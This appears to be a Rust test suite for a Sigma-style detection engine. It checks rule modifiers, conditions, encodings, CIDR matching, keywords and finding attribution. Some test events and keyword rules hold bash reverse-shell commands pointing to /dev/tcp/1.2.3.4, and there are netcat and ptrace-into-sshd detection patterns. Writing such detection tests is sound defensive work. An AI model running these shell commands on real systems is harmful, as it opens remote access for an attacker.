//! Conformance table: (detection snippet, event, expected) rows for every modifier, wildcard
//! escapes, each condition form, null/exists, keywords, number/string comparison, arrays and
//! case handling. Semantics follow the Sigma 2.1 specification and pySigma.

use std::borrow::Cow;

use tripline_rules::{Engine, FieldSource, LogSource, RuleSet, Scratch, Settings, Value};

/// A JSON object plus an optional raw line, so keyword rows can carry a message.
struct Ev {
    json: serde_json::Value,
    raw: Option<String>,
}

impl FieldSource for Ev {
    fn field(&self, name: &str) -> Option<Value<'_>> {
        self.json.field(name)
    }
    fn raw_text(&self) -> Option<&str> {
        self.raw.as_deref()
    }
    fn field_names(&self) -> Vec<Cow<'_, str>> {
        self.json.field_names()
    }
}

fn settings() -> Settings {
    let mut s = Settings::default();
    s.placeholders
        .insert("Admins".into(), vec!["root".into(), "admin".into()]);
    s
}

/// Compiles a rule from a detection body (indented under `detection:`) and evaluates it.
fn eval(detection: &str, event: serde_json::Value, raw: Option<&str>) -> Result<bool, String> {
    let yaml = format!(
        "title: t\nid: 11111111-2222-4333-8444-555555555555\nlogsource: {{product: test}}\ndetection:\n{}\n",
        detection
            .lines()
            .map(|l| format!("  {l}"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    let mut set = RuleSet::new(settings());
    set.add_str(&yaml, "row.yml");
    if let Some(e) = set.rejected.first() {
        return Err(e.to_string());
    }
    let engine = tripline_rules::Engine::compile(&set, &tripline_rules::Pipeline::identity());
    if let Some(e) = engine.rejected().first() {
        return Err(e.to_string());
    }
    let ev = Ev {
        json: event,
        raw: raw.map(str::to_string),
    };
    let mut sc = Scratch::new();
    let mut out = Vec::new();
    engine.evaluate(&LogSource::new("test", "", ""), &ev, &mut sc, &mut out);
    // The index must never change the answer: evaluate the rule directly too.
    let direct = engine.matches_rule(0, &ev, &mut sc);
    assert_eq!(
        direct,
        !out.is_empty(),
        "index and direct evaluation disagree for\n{detection}"
    );
    Ok(!out.is_empty())
}

fn _unused(_: &Engine) {}

macro_rules! rows {
    ($( $name:literal : $det:expr, $ev:tt, $raw:expr => $want:expr; )*) => {{
        let mut failures = Vec::new();
        let mut n = 0;
        $(
            n += 1;
            match eval($det, serde_json::json!($ev), $raw) {
                Ok(got) if got == $want => {}
                Ok(got) => failures.push(format!("{}: expected {}, got {}", $name, $want, got)),
                Err(e) => failures.push(format!("{}: rejected: {e}", $name)),
            }
        )*
        assert!(failures.is_empty(), "{} of {n} rows failed:\n{}", failures.len(), failures.join("\n"));
        n
    }};
}

const NONE: Option<&str> = None;

#[test]
fn conformance_table() {
    let n = rows! {
        // --- plain values, case ---
        "exact case-insensitive": "sel:\n  Image: /usr/bin/BASH\ncondition: sel", {"Image": "/usr/bin/bash"}, NONE => true;
        "exact needs whole value": "sel:\n  Image: /usr/bin/bash\ncondition: sel", {"Image": "/usr/bin/bash2"}, NONE => false;
        "cased mismatch": "sel:\n  Image|cased: /usr/bin/BASH\ncondition: sel", {"Image": "/usr/bin/bash"}, NONE => false;
        "cased match": "sel:\n  Image|cased: /usr/bin/BASH\ncondition: sel", {"Image": "/usr/bin/BASH"}, NONE => true;
        "unicode case": "sel:\n  User: ÉLODIE\ncondition: sel", {"User": "élodie"}, NONE => true;
        "empty string matches empty": "sel:\n  F: ''\ncondition: sel", {"F": ""}, NONE => true;
        "empty string vs text": "sel:\n  F: ''\ncondition: sel", {"F": "x"}, NONE => false;
        // --- lists, maps ---
        "value list is OR": "sel:\n  Image: [/bin/sh, /bin/bash]\ncondition: sel", {"Image": "/bin/bash"}, NONE => true;
        "map is AND (one fails)": "sel:\n  Image: /bin/bash\n  User: root\ncondition: sel", {"Image": "/bin/bash", "User": "bob"}, NONE => false;
        "map is AND": "sel:\n  Image: /bin/bash\n  User: root\ncondition: sel", {"Image": "/bin/bash", "User": "root"}, NONE => true;
        "list of maps is OR": "sel:\n  - Image: /bin/zsh\n  - User: root\ncondition: sel", {"Image": "/bin/bash", "User": "root"}, NONE => true;
        "absent field fails": "sel:\n  Image: /bin/bash\ncondition: sel", {"Other": "/bin/bash"}, NONE => false;
        // --- wildcards and escapes ---
        "star": "sel:\n  Image: '*/ba?h'\ncondition: sel", {"Image": "/usr/bin/bash"}, NONE => true;
        "backtracking *ab?": "sel:\n  F: '*ab?'\ncondition: sel", {"F": "abxabx"}, NONE => true;
        "question needs one char": "sel:\n  F: 'a?'\ncondition: sel", {"F": "a"}, NONE => false;
        "escaped star literal": "sel:\n  F: 'a\\*b'\ncondition: sel", {"F": "a*b"}, NONE => true;
        "escaped star not wildcard": "sel:\n  F: 'a\\*b'\ncondition: sel", {"F": "axxb"}, NONE => false;
        "escaped question literal": "sel:\n  F: 'a\\?'\ncondition: sel", {"F": "ax"}, NONE => false;
        "double backslash then wildcard": "sel:\n  F: 'c:\\\\*'\ncondition: sel", {"F": "c:\\anything"}, NONE => true;
        "lone backslash literal": "sel:\n  F: 'c:\\windows'\ncondition: sel", {"F": "C:\\Windows"}, NONE => true;
        "triple backslash star": "sel:\n  F: 'a\\\\\\*'\ncondition: sel", {"F": "a\\*"}, NONE => true;
        // --- generic modifiers ---
        "contains": "sel:\n  CommandLine|contains: /dev/tcp/\ncondition: sel", {"CommandLine": "bash -i >& /DEV/TCP/1.2.3.4/80"}, NONE => true;
        "startswith": "sel:\n  F|startswith: abc\ncondition: sel", {"F": "ABCdef"}, NONE => true;
        "startswith miss": "sel:\n  F|startswith: abc\ncondition: sel", {"F": "xabc"}, NONE => false;
        "endswith": "sel:\n  Image|endswith: /bash\ncondition: sel", {"Image": "/usr/bin/BASH"}, NONE => true;
        "contains|all": "sel:\n  C|contains|all: [-i, /dev/tcp]\ncondition: sel", {"C": "bash -i /dev/tcp"}, NONE => true;
        "contains|all one missing": "sel:\n  C|contains|all: [-i, /dev/udp]\ncondition: sel", {"C": "bash -i /dev/tcp"}, NONE => false;
        "contains many (automaton)": "sel:\n  C|contains: [aa, bb, cc, dd, ee, ff]\ncondition: sel", {"C": "xxEExx"}, NONE => true;
        "contains many miss": "sel:\n  C|contains: [aa, bb, cc, dd, ee, ff]\ncondition: sel", {"C": "xyz"}, NONE => false;
        "contains|cased": "sel:\n  C|contains|cased: Foo\ncondition: sel", {"C": "xfoo"}, NONE => false;
        "exists true": "sel:\n  F|exists: true\ncondition: sel", {"F": ""}, NONE => true;
        "exists true on null": "sel:\n  F|exists: true\ncondition: sel", {"F": null}, NONE => true;
        "exists false": "sel:\n  F|exists: false\ncondition: sel", {"G": 1}, NONE => true;
        "exists false present": "sel:\n  F|exists: false\ncondition: sel", {"F": 1}, NONE => false;
        "neq": "sel:\n  User|neq: root\ncondition: sel", {"User": "bob"}, NONE => true;
        "neq equal": "sel:\n  User|neq: root\ncondition: sel", {"User": "ROOT"}, NONE => false;
        "neq list": "sel:\n  User|neq: [root, admin]\ncondition: sel", {"User": "admin"}, NONE => false;
        "neq absent": "sel:\n  User|neq: root\ncondition: sel", {}, NONE => true;
        // --- null ---
        "null absent": "sel:\n  F: null\ncondition: sel", {"G": 1}, NONE => true;
        "null explicit": "sel:\n  F: null\ncondition: sel", {"F": null}, NONE => true;
        "null present": "sel:\n  F: null\ncondition: sel", {"F": "x"}, NONE => false;
        "not null via filter": "sel:\n  G: 1\nfilter:\n  F: null\ncondition: sel and not filter", {"G": 1, "F": "x"}, NONE => true;
        // --- numbers vs strings ---
        "int rule vs string": "sel:\n  a1: 777\ncondition: sel", {"a1": "777"}, NONE => true;
        "string rule vs int": "sel:\n  DestinationPort: '4444'\ncondition: sel", {"DestinationPort": 4444}, NONE => true;
        "int vs int": "sel:\n  euid: 33\ncondition: sel", {"euid": 33}, NONE => true;
        "int no partial": "sel:\n  euid: 33\ncondition: sel", {"euid": "333"}, NONE => false;
        "bool value": "sel:\n  F: true\ncondition: sel", {"F": true}, NONE => true;
        "lt": "sel:\n  N|lt: 10\ncondition: sel", {"N": 9}, NONE => true;
        "lt boundary": "sel:\n  N|lt: 10\ncondition: sel", {"N": 10}, NONE => false;
        "lte": "sel:\n  N|lte: 10\ncondition: sel", {"N": "10"}, NONE => true;
        "gt": "sel:\n  N|gt: 10\ncondition: sel", {"N": 10.5}, NONE => true;
        "gte": "sel:\n  N|gte: 10\ncondition: sel", {"N": 9}, NONE => false;
        "gt non-number": "sel:\n  N|gt: 10\ncondition: sel", {"N": "abc"}, NONE => false;
        // --- arrays in events ---
        "array any element": "sel:\n  Tags|contains: evil\ncondition: sel", {"Tags": ["good", "evil-ish"]}, NONE => true;
        "array no element": "sel:\n  Tags|contains: evil\ncondition: sel", {"Tags": ["good", "fine"]}, NONE => false;
        "array all across elements": "sel:\n  Tags|all: [a, b]\ncondition: sel", {"Tags": ["b", "a"]}, NONE => true;
        "nested dotted field": "sel:\n  objectRef.resource: secrets\ncondition: sel", {"objectRef": {"resource": "secrets"}}, NONE => true;
        // --- string modifiers ---
        "windash slash": "sel:\n  C|windash|contains: ' -enc '\ncondition: sel", {"C": "ps /enc abc"}, NONE => true;
        "windash en dash": "sel:\n  C|windash|contains: ' -enc '\ncondition: sel", {"C": "ps \u{2013}enc abc"}, NONE => true;
        "windash miss": "sel:\n  C|windash|contains: ' -enc '\ncondition: sel", {"C": "ps enc abc"}, NONE => false;
        "re": "sel:\n  C|re: '^a.c$'\ncondition: sel", {"C": "abc"}, NONE => true;
        "re case-sensitive by default": "sel:\n  C|re: '^A'\ncondition: sel", {"C": "abc"}, NONE => false;
        "re|i": "sel:\n  C|re|i: '^A'\ncondition: sel", {"C": "abc"}, NONE => true;
        "re|m": "sel:\n  C|re|m: '^b$'\ncondition: sel", {"C": "a\nb\nc"}, NONE => true;
        "re without m": "sel:\n  C|re: '^b$'\ncondition: sel", {"C": "a\nb\nc"}, NONE => false;
        "re|s": "sel:\n  C|re|s: 'a.b'\ncondition: sel", {"C": "a\nb"}, NONE => true;
        "re without s": "sel:\n  C|re: 'a.b'\ncondition: sel", {"C": "a\nb"}, NONE => false;
        // --- encodings ---
        "base64": "sel:\n  C|base64: abc\ncondition: sel", {"C": "YWJj"}, NONE => true;
        "base64|contains": "sel:\n  C|base64|contains: abc\ncondition: sel", {"C": "echo YWJj | base64 -d"}, NONE => true;
        "base64offset offset 0": "sel:\n  C|base64offset|contains: 'http://'\ncondition: sel", {"C": "aHR0cDovL2V2aWwuY29t"}, NONE => true;
        "base64offset offset 1": "sel:\n  C|base64offset|contains: 'http://'\ncondition: sel", {"C": "eGh0dHA6Ly9ldmls"}, NONE => true;
        "base64offset offset 2": "sel:\n  C|base64offset|contains: 'http://'\ncondition: sel", {"C": "eHhodHRwOi8vZXZpbA=="}, NONE => true;
        "base64offset miss": "sel:\n  C|base64offset|contains: 'http://'\ncondition: sel", {"C": "aHR0cHM6Ly9ldmls"}, NONE => false;
        "utf16le|base64": "sel:\n  C|utf16le|base64: ab\ncondition: sel", {"C": "YQBiAA=="}, NONE => true;
        "wide|base64": "sel:\n  C|wide|base64: ab\ncondition: sel", {"C": "YQBiAA=="}, NONE => true;
        "utf16be|base64": "sel:\n  C|utf16be|base64: ab\ncondition: sel", {"C": "AGEAYg=="}, NONE => true;
        "utf16|base64 (BOM)": "sel:\n  C|utf16|base64: ab\ncondition: sel", {"C": "//5hAGIA"}, NONE => true;
        "utf16le raw": "sel:\n  C|utf16le|contains: ab\ncondition: sel", {"C": "xa\u{0}b\u{0}x"}, NONE => true;
        // --- time parts ---
        "minute": "sel:\n  T|minute: 30\ncondition: sel", {"T": "2024-05-06T07:30:09Z"}, NONE => true;
        "hour": "sel:\n  T|hour: 7\ncondition: sel", {"T": "2024-05-06T07:30:09Z"}, NONE => true;
        "hour miss": "sel:\n  T|hour: 8\ncondition: sel", {"T": "2024-05-06T07:30:09Z"}, NONE => false;
        "day": "sel:\n  T|day: 6\ncondition: sel", {"T": "2024-05-06T07:30:09Z"}, NONE => true;
        "week": "sel:\n  T|week: 19\ncondition: sel", {"T": "2024-05-06T07:30:09Z"}, NONE => true;
        "month": "sel:\n  T|month: 5\ncondition: sel", {"T": "2024-05-06 07:30:09"}, NONE => true;
        "year": "sel:\n  T|year: 2024\ncondition: sel", {"T": "2024-05-06T07:30:09+02:00"}, NONE => true;
        "hour|gte": "sel:\n  T|hour|gte: 20\ncondition: sel", {"T": "2024-05-06T22:00:00Z"}, NONE => true;
        // --- cidr ---
        "cidr v4": "sel:\n  Ip|cidr: 10.0.0.0/8\ncondition: sel", {"Ip": "10.1.2.3"}, NONE => true;
        "cidr v4 miss": "sel:\n  Ip|cidr: 10.0.0.0/8\ncondition: sel", {"Ip": "11.1.2.3"}, NONE => false;
        "cidr v6": "sel:\n  Ip|cidr: 'fd00::/8'\ncondition: sel", {"Ip": "fd12::1"}, NONE => true;
        "cidr list": "sel:\n  Ip|cidr: [192.168.0.0/16, 127.0.0.0/8]\ncondition: sel", {"Ip": "127.0.0.1"}, NONE => true;
        "cidr non-ip": "sel:\n  Ip|cidr: 10.0.0.0/8\ncondition: sel", {"Ip": "host"}, NONE => false;
        // --- expand, fieldref ---
        "expand": "sel:\n  User|expand: '%Admins%'\ncondition: sel", {"User": "admin"}, NONE => true;
        "expand miss": "sel:\n  User|expand: '%Admins%'\ncondition: sel", {"User": "bob"}, NONE => false;
        "fieldref": "sel:\n  User|fieldref: TargetUser\ncondition: sel", {"User": "Root", "TargetUser": "root"}, NONE => true;
        "fieldref differ": "sel:\n  User|fieldref: TargetUser\ncondition: sel", {"User": "a", "TargetUser": "b"}, NONE => false;
        "fieldref|neq": "sel:\n  User|fieldref|neq: TargetUser\ncondition: sel", {"User": "a", "TargetUser": "b"}, NONE => true;
        "fieldref absent other": "sel:\n  User|fieldref: TargetUser\ncondition: sel", {"User": "a"}, NONE => false;
        // --- keywords ---
        "keyword substring": "keywords:\n  - 'bash -i >& /dev/tcp/'\ncondition: keywords", {}, Some("x: bash -i >& /dev/tcp/1.2.3.4/8080 0>&1") => true;
        "keyword case-insensitive": "keywords:\n  - 'FAILED password'\ncondition: keywords", {}, Some("sshd: failed PASSWORD for root") => true;
        "keyword list OR": "keywords:\n  - aaa\n  - bbb\ncondition: keywords", {}, Some("xx bbb") => true;
        "keyword miss": "keywords:\n  - aaa\ncondition: keywords", {}, Some("xx bbb") => false;
        "keyword wildcard": "keywords:\n  - 'a*c'\ncondition: keywords", {}, Some("xx abbbc yy") => true;
        "keyword |all map": "keywords:\n  '|all':\n    - aaa\n    - bbb\ncondition: keywords", {}, Some("bbb then aaa") => true;
        "keyword |all map one missing": "keywords:\n  '|all':\n    - aaa\n    - bbb\ncondition: keywords", {}, Some("only aaa") => false;
        "keyword from message field": "keywords:\n  - segfault\ncondition: keywords", {"message": "kernel: app[1]: SEGFAULT at 0"}, NONE => true;
        "keyword no raw text": "keywords:\n  - segfault\ncondition: keywords", {"other": "segfault"}, NONE => false;
        // --- conditions ---
        "and": "a:\n  F: 1\nb:\n  G: 2\ncondition: a and b", {"F": 1, "G": 2}, NONE => true;
        "or": "a:\n  F: 1\nb:\n  G: 2\ncondition: a or b", {"F": 0, "G": 2}, NONE => true;
        "not": "a:\n  F: 1\ncondition: not a", {"F": 0}, NONE => true;
        "not absent field filter": "a:\n  F: 1\nf:\n  G: 2\ncondition: a and not f", {"F": 1}, NONE => true;
        "precedence and over or": "a:\n  F: 1\nb:\n  G: 2\nc:\n  H: 3\ncondition: a or b and c", {"F": 1, "G": 0, "H": 0}, NONE => true;
        "precedence not over and": "a:\n  F: 1\nb:\n  G: 2\ncondition: not a and b", {"F": 1, "G": 2}, NONE => false;
        "parentheses": "a:\n  F: 1\nb:\n  G: 2\nc:\n  H: 3\ncondition: (a or b) and c", {"F": 1, "G": 0, "H": 0}, NONE => false;
        "1 of pattern": "sel_a:\n  F: 1\nsel_b:\n  G: 2\ncondition: 1 of sel_*", {"G": 2}, NONE => true;
        "any of pattern": "sel_a:\n  F: 1\nsel_b:\n  G: 2\ncondition: any of sel_*", {"G": 2}, NONE => true;
        "all of pattern": "sel_a:\n  F: 1\nsel_b:\n  G: 2\ncondition: all of sel_*", {"G": 2}, NONE => false;
        "all of pattern both": "sel_a:\n  F: 1\nsel_b:\n  G: 2\ncondition: all of sel_*", {"F": 1, "G": 2}, NONE => true;
        "1 of them skips _": "_helper:\n  F: 1\nsel:\n  G: 2\ncondition: 1 of them", {"F": 1}, NONE => false;
        "all of them skips _": "_helper:\n  F: 1\nsel:\n  G: 2\ncondition: all of them", {"G": 2}, NONE => true;
        "pattern suffix": "a_filter:\n  F: 1\nb_filter:\n  G: 2\ncondition: 1 of *_filter", {"G": 2}, NONE => true;
        "condition list is OR": "a:\n  F: 1\nb:\n  G: 2\ncondition:\n  - a\n  - b", {"G": 2}, NONE => true;
        "condition list none": "a:\n  F: 1\nb:\n  G: 2\ncondition:\n  - a\n  - b", {"H": 2}, NONE => false;
        "not 1 of": "sel:\n  F: 1\nfilter_a:\n  G: 1\nfilter_b:\n  H: 1\ncondition: sel and not 1 of filter_*", {"F": 1, "H": 1}, NONE => false;
    };
    assert!(n >= 110, "{n}");
}

#[test]
fn rejections_name_the_problem() {
    let cases = [
        (
            "sel:\n  F|bogus: 1\ncondition: sel",
            "unknown modifier `bogus`",
        ),
        (
            "sel:\n  F: 1\ncondition: sel | count() by host > 5",
            "aggregation",
        ),
        ("sel:\n  F: 1\ncondition: sel near other", "aggregation"),
        ("sel:\n  F: 1\ntimeframe: 5m\ncondition: sel", "timeframe"),
        ("sel:\n  F: 1\ncondition: nope", "not a search identifier"),
        (
            "sel:\n  F: 1\ncondition: 1 of x_*",
            "matches no search identifier",
        ),
        ("sel:\n  F|re: '('\ncondition: sel", "regex"),
        ("sel:\n  F|cidr: 'x/99'\ncondition: sel", "CIDR"),
        (
            "sel:\n  F|expand: '%Nope%'\ncondition: sel",
            "unknown placeholder `%Nope%`",
        ),
        ("sel:\n  F: [1, null]\ncondition: sel", "null"),
        ("sel:\n  F|exists: maybe\ncondition: sel", "exists"),
        ("sel:\n  F|i: a\ncondition: sel", "only applies after `re`"),
        ("sel:\n  F|base64: 'a*'\ncondition: sel", "wildcards"),
        ("sel:\n  F: 1\ncondition: sel and", "condition"),
        ("sel:\n  F: 1", "no `condition`"),
    ];
    for (det, want) in cases {
        let err = eval(det, serde_json::json!({}), None).expect_err(det);
        assert!(err.contains(want), "{det}: {err}");
        assert!(
            err.contains("row.yml") && err.contains("11111111-2222"),
            "{err}"
        );
    }
}

#[test]
fn regex_size_limit_is_enforced() {
    let mut set = RuleSet::new(Settings {
        max_regex_bytes: 1000,
        ..Settings::default()
    });
    set.add_str("title: t\nlogsource: {product: x}\ndetection:\n  sel:\n    F|re: 'a{1000}b{1000}'\n  condition: sel\n", "r.yml");
    let engine = Engine::new(&set);
    assert_eq!(engine.rejected().len(), 1);
    assert!(engine.rejected()[0].to_string().contains("regex"));
}

#[test]
fn meta_filter_is_appended_as_and_not() {
    let yaml = "title: r\nid: rule-1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n---\ntitle: f\nid: f-1\nlogsource: {product: linux, category: process_creation}\nfilter:\n  rules: [rule-1]\n  selection:\n    User|startswith: adm_\n  condition: selection\n";
    let mut set = RuleSet::new(Settings::default());
    set.add_str(yaml, "mf.yml");
    assert!(set.rejected.is_empty(), "{:?}", set.rejected);
    assert_eq!((set.rules.len(), set.filters.len()), (1, 1));
    let engine = Engine::new(&set);
    assert_eq!(engine.stats().filters_applied, 1);
    let ls = LogSource::new("linux", "process_creation", "");
    let mut sc = Scratch::new();
    let mut out = Vec::new();
    engine.evaluate(
        &ls,
        &serde_json::json!({"Image": "/usr/bin/curl", "User": "adm_x"}),
        &mut sc,
        &mut out,
    );
    assert!(out.is_empty());
    engine.evaluate(
        &ls,
        &serde_json::json!({"Image": "/usr/bin/curl", "User": "bob"}),
        &mut sc,
        &mut out,
    );
    assert_eq!(out.len(), 1);
    assert_eq!(engine.selection_names(&out[0]), vec!["sel"]);
}

#[test]
fn logsource_routing_and_mapping() {
    let yaml = "title: net\nlogsource: {product: linux, category: network_connection}\ndetection:\n  sel:\n    Image|endswith: /bash\n    Initiated: 'true'\n  filter:\n    DestinationIp|cidr: 127.0.0.0/8\n  condition: sel and not filter\n";
    let mut set = RuleSet::new(Settings::default());
    set.add_str(yaml, "net.yml");
    let engine = Engine::new(&set);
    let mut sc = Scratch::new();
    let mut out = Vec::new();
    let ecs = serde_json::json!({"process": {"executable": "/bin/bash"}, "network": {"direction": "egress"}, "destination": {"ip": "10.0.0.1"}});
    engine.evaluate(
        &LogSource::new("linux", "network_connection", ""),
        &ecs,
        &mut sc,
        &mut out,
    );
    assert_eq!(
        out.len(),
        1,
        "ECS names through the pipeline, value alias true → egress"
    );
    let sysmon = serde_json::json!({"Image": "/bin/bash", "Initiated": "true", "DestinationIp": "127.0.0.1"});
    engine.evaluate(
        &LogSource::new("linux", "network_connection", ""),
        &sysmon,
        &mut sc,
        &mut out,
    );
    assert_eq!(out.len(), 1, "own names still accepted; filter applies");
    // Routing: the same process event under process_creation must not reach the rule.
    engine.evaluate(
        &LogSource::new("linux", "process_creation", ""),
        &ecs,
        &mut sc,
        &mut out,
    );
    assert_eq!(out.len(), 1);
}

#[test]
fn finding_carries_attribution_and_values() {
    let yaml = "title: T\nid: abc\nauthor: Jane Doe\nlevel: critical\ntags: [attack.execution, attack.t1059]\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /nc\n  condition: sel\n";
    let mut set = RuleSet::new(Settings::default());
    set.add_str(yaml, "f.yml");
    let engine = Engine::new(&set);
    let ev = serde_json::json!({"process": {"executable": "/usr/bin/nc"}});
    let mut sc = Scratch::new();
    let mut out = Vec::new();
    engine.evaluate(
        &LogSource::new("linux", "process_creation", ""),
        &ev,
        &mut sc,
        &mut out,
    );
    let f = engine.finding(&out[0], &ev).unwrap();
    assert_eq!(f.author.as_deref(), Some("Jane Doe"));
    assert_eq!(f.rule_id.as_deref(), Some("abc"));
    assert_eq!(
        f.fields.get("Image").map(String::as_str),
        Some("/usr/bin/nc")
    );
    assert_eq!(f.selections, vec!["sel"]);
    assert_eq!(
        f.severity.as_ref().unwrap().level,
        tripline_schema::SeverityLevel::Critical
    );
    assert_eq!(f.attack.len(), 1, "{:?}", f.attack);
    assert_eq!(f.attack[0].technique.as_ref().unwrap().id, "T1059");
    assert_eq!(f.attack[0].tactic.as_ref().unwrap().id, "TA0002");
    let j = serde_json::to_value(&f).unwrap();
    assert_eq!(j["rule_title"], "T");
}

#[test]
fn process_access_rule_matches_a_normalized_ptrace_event() {
    use tripline_schema::{
        Event, EventKind, Process, ProcessAccess, ProcessAccessOp, Product, Source,
    };
    let yaml = "title: Memory write into sshd\nid: pa-1\nlogsource: {product: linux, category: process_access}\ndetection:\n  sel:\n    SourceImage|endswith: /gdb\n    SourceProcessId: 4242\n    TargetImage: /usr/sbin/sshd\n    TargetProcessId: 812\n    GrantedAccess: PTRACE_POKETEXT\n  condition: sel\n";
    let mut set = RuleSet::new(Settings::default());
    set.add_str(yaml, "pa.yml");
    assert!(set.rejected.is_empty(), "{:?}", set.rejected);
    let engine = Engine::new(&set);
    assert!(engine.rejected().is_empty(), "{:?}", engine.rejected());

    let event = |request: &str| {
        Event::new(
            chrono::DateTime::from_timestamp(1_700_000_000, 0).unwrap(),
            Source::new(Product::Auditd, "audit-log"),
            EventKind::ProcessAccess(Box::new(ProcessAccess {
                op: ProcessAccessOp::from_ptrace_request(request),
                request: Some(request.into()),
                process: Some(Process {
                    pid: Some(4242),
                    executable: Some("/usr/bin/gdb".into()),
                    ..Process::default()
                }),
                target: Process {
                    pid: Some(812),
                    executable: Some("/usr/sbin/sshd".into()),
                    name: Some("sshd".into()),
                    ..Process::default()
                },
            })),
        )
    };
    let ls = LogSource::new("linux", "process_access", "");
    let mut sc = Scratch::new();
    let mut out = Vec::new();
    engine.evaluate(&ls, &event("PTRACE_POKETEXT"), &mut sc, &mut out);
    assert_eq!(out.len(), 1, "Sysmon names reach the normalized fields");
    // Another request, or the same event under another category, does not match.
    engine.evaluate(&ls, &event("PTRACE_PEEKDATA"), &mut sc, &mut out);
    let creation = LogSource::new("linux", "process_creation", "");
    engine.evaluate(&creation, &event("PTRACE_POKETEXT"), &mut sc, &mut out);
    assert_eq!(out.len(), 1);
}
